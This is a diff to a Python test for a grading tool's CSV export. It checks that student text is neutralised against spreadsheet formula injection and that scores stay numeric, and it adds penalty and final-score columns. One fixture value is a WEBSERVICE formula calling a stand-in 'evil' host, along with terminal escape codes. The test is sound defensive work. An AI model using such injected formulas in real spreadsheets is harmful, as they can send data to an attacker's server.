@@ -199,7 +199,8 @@ def test_summary_csv_neutralises_student_text_and_keeps_numbers(tmp_path: Path) 
     assert "\x1b" not in raw
     rows = list(csv.reader(io.StringIO(raw, newline=""), quoting=csv.QUOTE_NONNUMERIC))
     header, body = rows[0], rows[1:]
-    assert header == ["student", "assignment", "status", "score", "max_score", "a", "error"]  # one header row
+    assert header == ["student", "assignment", "status", "score", "max_score", "a", "late_penalty", "adjustment",
+                      "final_score", "error"]  # one header row
     assert len(body) == len(reports)
     for row in body:
         for cell in row:
@@ -211,7 +212,7 @@ def test_summary_csv_neutralises_student_text_and_keeps_numbers(tmp_path: Path) 
         row = by_student["'" + inert.text(s)]
         assert row[3] == row[5] == i - 2.5 and row[4] == 10.0  # negative scores too, not neutralised
     semi = by_student["a;=1+2"]
-    assert semi[1] == "'@toy" and semi[6] == "'=WEBSERVICE(\"http://evil\")\nsecond line\\x1b[2J"
+    assert semi[1] == "'@toy" and semi[9] == "'=WEBSERVICE(\"http://evil\")\nsecond line\\x1b[2J"
     assert '"a;=1+2"' in raw  # quoted: a spreadsheet splitting on ";" keeps it one cell
     assert "\n-2.5," not in raw and ",-2.5,10," in raw  # the grader's numbers, as numbers
     # and a plain reader (the batch tests', an LMS import) reads the scores as before
